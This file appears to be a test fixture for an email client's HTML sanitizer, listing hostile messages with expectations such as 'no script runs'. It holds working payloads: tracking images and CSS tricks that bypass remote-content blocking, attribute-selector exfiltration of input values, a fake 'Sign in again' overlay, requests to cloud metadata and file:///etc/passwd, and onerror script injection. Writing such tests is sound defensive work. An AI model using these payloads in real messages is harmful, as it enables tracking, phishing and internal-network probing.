/** HTML that asks somebody, by being shown, or that draws over what is not its own. */
import { htmlMessage, multipart, TRACKER, type HostileMessage } from './message.ts';

const ASKS_NOBODY = 'the tracker is not asked before the reader allows remote content';

const rows: readonly (readonly [name: string, html: string, mustNot: string])[] = [
  ['image of one pixel', `<img src="${TRACKER}/open.gif?alice" width=1 height=1 alt="">`, ASKS_NOBODY],
  [
    'image addresses in odd spelling',
    `<img src="//tracker.evil.example/a"><img src="\\\\tracker.evil.example\\b"><img src="ht\ntps://tracker.evil.example/c"><image src="${TRACKER}/d"><img src="http:tracker.evil.example/e">`,
    ASKS_NOBODY,
  ],
  [
    'srcset, picture, sizes',
    `<img srcset="${TRACKER}/1x 1x, ${TRACKER}/2x 2x"><picture><source srcset="${TRACKER}/p"><img alt=x></picture>`,
    ASKS_NOBODY,
  ],
  [
    'background attributes',
    `<body background="${TRACKER}/body"><table background="${TRACKER}/table"><tr><td background="${TRACKER}/td">x</table>`,
    ASKS_NOBODY,
  ],
  [
    'video, audio, poster, track',
    `<video src="${TRACKER}/v" poster="${TRACKER}/poster" autoplay><track src="${TRACKER}/t" default></video><audio src="${TRACKER}/a" autoplay></audio><bgsound src="${TRACKER}/b">`,
    ASKS_NOBODY,
  ],
  [
    'link elements',
    [
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'icon',
      'modulepreload',
      'manifest',
      'prerender',
    ]
      .map((rel) => `<link rel="${rel}" href="${TRACKER}/${rel}" as=image>`)
      .join(''),
    ASKS_NOBODY,
  ],
  [
    'speculation rules',
    `<script type="speculationrules">{"prefetch":[{"urls":["${TRACKER}/s"]}]}</script><meta http-equiv="x-dns-prefetch-control" content="on"><a href="${TRACKER}/dns">x</a>`,
    `${ASKS_NOBODY}, not even for its name`,
  ],
  [
    'input image and SVG image',
    `<input type=image src="${TRACKER}/i"><svg><image href="${TRACKER}/s" xlink:href="${TRACKER}/x"/><feImage href="${TRACKER}/f"/><use href="${TRACKER}/u#x"/></svg>`,
    ASKS_NOBODY,
  ],
  [
    'style import',
    `<style>@import "${TRACKER}/i.css";@import url(${TRACKER}/j.css);@\\69mport '${TRACKER}/k.css';</style>`,
    ASKS_NOBODY,
  ],
  [
    'style url()',
    `<div style="background:url(${TRACKER}/a);list-style:url('${TRACKER}/b');cursor:url(${TRACKER}/c),auto;border-image:url(${TRACKER}/d)">x</div><p style="background:\\75rl(${TRACKER}/e)">y</p><p style="background:u/**/rl(${TRACKER}/f);content:image-set('${TRACKER}/g' 1x)">z</p>`,
    ASKS_NOBODY,
  ],
  [
    'style variables',
    `<style>:root{--x:url(${TRACKER}/v)}p{background:var(--x)}@property --y{syntax:'<image>';inherits:true;initial-value:url(${TRACKER}/w)}</style><p>x</p>`,
    ASKS_NOBODY,
  ],
  [
    'fonts',
    `<style>@font-face{font-family:x;src:url(${TRACKER}/font);unicode-range:U+61}body{font-family:x}</style>alice`,
    ASKS_NOBODY,
  ],
  [
    'attribute selectors that spell out a value',
    `<style>${'abcdef0123456789'
      .split('')
      .map((letter) => `input[value^="${letter}"]{background:url(${TRACKER}/${letter})}`)
      .join('')}</style><input value="a1">`,
    `${ASKS_NOBODY}; nothing outside of the message is styled`,
  ],
  [
    'visited links',
    `<style>a:visited{background:url(${TRACKER}/visited)}</style><a href="https://bank.example/">x</a>`,
    ASKS_NOBODY,
  ],
  [
    'old expressions and bindings',
    `<p style="width:expression(document.title='ran');behavior:url(${TRACKER}/h.htc);-moz-binding:url(${TRACKER}/b.xml#x)">x</p>`,
    ASKS_NOBODY,
  ],
  [
    'an overlay',
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Sign in again</h1><a href="${TRACKER}/login">here</a></div>`,
    'nothing is drawn outside of the frame of the message',
  ],
  [
    'a style for the whole page',
    `<style>*{display:none!important}html,body{background:red!important;height:100000px}</style><style>@page{size:1px}</style>`,
    'the page around the message looks as before, and can be scrolled',
  ],
  [
    'text that nobody sees',
    `<span style="font-size:0">invoice</span><p style="color:#fff;background:#fff">hidden</p><div style="height:1px;overflow:hidden">hidden</div>`,
    'nothing breaks; hidden text is no harm by itself',
  ],
  [
    'conditional comments',
    `<!--[if mso]><img src="${TRACKER}/mso"><![endif]--><![if !mso]><img src="${TRACKER}/not-mso"><![endif]>`,
    ASKS_NOBODY,
  ],
  [
    'data: images',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'><image href='${TRACKER}/svg'/></svg>"><img src="data:text/html,x"><img src="data:image/png;base64,AAAA">`,
    `${ASKS_NOBODY}; no script runs`,
  ],
  [
    'addresses of this machine and its network',
    '<img src="http://127.0.0.1:2525/"><img src="http://169.254.169.254/latest/meta-data/"><img src="file:///etc/passwd"><img src="https://localhost:8443/oidc/session/end"><img src="/v1/alias">',
    'nothing is asked, of any address',
  ],
];

/** Content-IDs are a name space of the message: nothing in it leads out of the message. */
const contentIds = multipart('related', [
  {
    type: 'text/html',
    body: `<img src="cid:a"><img src="cid:../../v1/alias"><img src="cid:none"><iframe src="cid:page"></iframe><img src="cid:x&quot; onerror=document.title='ran'">`,
  },
  {
    type: 'image/svg+xml',
    header: ['Content-ID: <a>'],
    body: `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script></svg>`,
  },
  { type: 'text/html', header: ['Content-ID: <page>'], body: "<script>parent.document.title='ran'</script>" },
  { type: 'image/png', header: [`Content-ID: <x" onerror=document.title='ran'>`], body: 'x' },
]);

export const remoteContent: readonly HostileMessage[] = [
  ...rows.map(([name, html, mustNot]) => ({ name: `remote: ${name}`, raw: htmlMessage(html), mustNot })),
  {
    name: 'remote: content identifiers',
    raw: contentIds,
    mustNot: 'no script runs, no part is shown as a page, and nothing outside of the message is asked',
  },
];
